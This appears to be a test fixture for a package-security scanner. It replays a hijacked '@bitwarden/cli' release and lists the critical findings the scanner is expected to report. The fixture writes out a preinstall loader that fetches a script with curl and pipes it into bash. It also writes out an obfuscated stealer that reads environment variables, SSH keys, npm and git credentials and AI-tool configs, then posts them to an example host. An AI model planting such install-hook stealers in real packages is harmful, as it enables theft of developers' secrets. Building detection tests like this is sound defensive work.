import { obfuscated } from '../obfuscated.js'
import { compiledQueue } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'

const install = "if (!hasBun()) execSync('curl -fsSL https://bun-install.example/install | bash', { stdio: 'ignore' });"

/** The loader that the hook names: it looks for a runtime, and fetches one where there is none. */
const setup = `#!/usr/bin/env node
const { execSync, spawnSync } = require('child_process');
const path = require('path');

function hasBun() {
  return spawnSync('bun', ['--version'], { stdio: 'ignore' }).status === 0;
}

${install}
spawnSync('bun', ['run', path.join(__dirname, 'bw1.js')], { stdio: 'ignore' });
`

const payload = obfuscated(
  `
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»),$crypto=require(«crypto»);
async function $main(){
if(Intl[«DateTimeFormat»]()[«resolvedOptions»]()[«locale»][«startsWith»](«ru»))return;
const $found={'environment':JSON[«stringify»](process[«env»]),'files':[]};
for(const $place of [«.npmrc»,«.ssh/id_ed25519»,«.git-credentials»,«.claude.json»,«.kiro/settings/mcp.json»]){
try{$found[«files»][«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
const $sealed=$crypto[«createHash»](«sha256»)[«update»](JSON[«stringify»]($found)[«slice»](0x0,0x0))[«digest»](«hex»);
await fetch(«https://audit.scanner.example/v1/telemetry»,{'method':«POST»,'body':JSON[«stringify»]($found)[«slice»](0x0,0x0)+$sealed});
}
$main()[«catch»](()=>{});
`,
  300,
)

const manifest = { bin: { bw: 'build/bw.js' } }
const files = { 'build/bw.js': `#!/usr/bin/env node\n${compiledQueue}` }
const command = 'node bw_setup.js'

export const replay = replayUpgrade({
  description:
    'An action in the pipeline of a password manager’s command line had been taken over, so the release was the project’s own, with a ' +
    'loader before install and a stealer that took the host of a security vendor for its cover.',
  date: '2026-04-22',
  name: '@bitwarden/cli',
  from: ['2026.3.0', { manifest, files }],
  to: [
    '2026.4.0',
    {
      manifest: { ...manifest, scripts: { preinstall: command } },
      files: { ...files, 'bw_setup.js': setup, 'bw1.js': payload },
    },
  ],
  findings: [
    ['install-script-dangerous', 'critical', { file: 'bw1.js', line: payload }],
    ['remote-code-run', 'critical', { file: 'bw_setup.js', line: install }],
    ['secrets-exfiltrated', 'critical', { file: 'bw1.js', line: payload }],
    ['secrets-harvested', 'critical', { file: 'bw1.js', line: payload }],
    ['combined-risk', 'critical'],
    [
      'capability-added',
      'high',
      { file: 'bw_setup.js', line: "return spawnSync('bun', ['--version'], { stdio: 'ignore' }).status === 0;" },
    ],
    ['code-obfuscated', 'high', { file: 'bw1.js' }],
    ['install-script-added', 'high', { file: 'package.json' }],
    ['beacon-added', 'high', { file: 'bw1.js', line: payload }],
    ['scanner-evasion', 'high', { file: 'bw1.js', line: payload }],
    ['network-host-added', 'medium', { file: 'bw1.js', line: payload }],
  ],
})
